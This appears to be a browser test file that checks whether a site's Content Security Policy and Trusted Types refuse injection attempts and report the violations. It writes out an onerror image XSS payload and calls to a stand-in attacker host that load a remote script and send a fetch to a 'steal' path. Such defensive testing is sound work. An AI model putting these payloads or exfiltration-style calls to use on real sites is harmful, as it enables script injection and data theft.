import { expect, open, test } from "./test.ts";

test("what an attacker would try is refused by the browser, and noticed by these tests", async ({
  page,
  expectViolation,
  noise,
}) => {
  expectViolation("require-trusted-types-for", "style-src-attr", "connect-src");
  await open(page, "/");
  const ran = await page.evaluate(async () => {
    const attempt = (action: () => unknown) => {
      try {
        action();
      } catch {
        // Trusted Types refuse with an error.
      }
    };
    const script = document.createElement("script");
    attempt(() => {
      document.body.innerHTML += "<img src=x onerror='window.ran = true'>";
    });
    attempt(() => {
      script.textContent = "window.ran = true";
    });
    attempt(() => {
      script.src = "https://flare.example/evil.js";
    });
    document.body.append(script);
    document.body.setAttribute("style", "color: red");
    await fetch("https://flare.example/steal").catch(() => {});
    return "ran" in window;
  });
  expect(ran).toBe(false);
  noise.length = 0;
});

test.fail(
  "a violation that was not announced fails the test, in any tab and whatever it clears",
  async ({ page, context, noise }) => {
    await open(page, "/");
    const other = await context.newPage();
    await open(other, "/products");
    const told = other.waitForEvent("console", (message) => message.text().startsWith("policy: style-src-attr"));
    await other.evaluate(() => document.body.setAttribute("style", "color: red"));
    await told;
    noise.length = 0;
  },
);
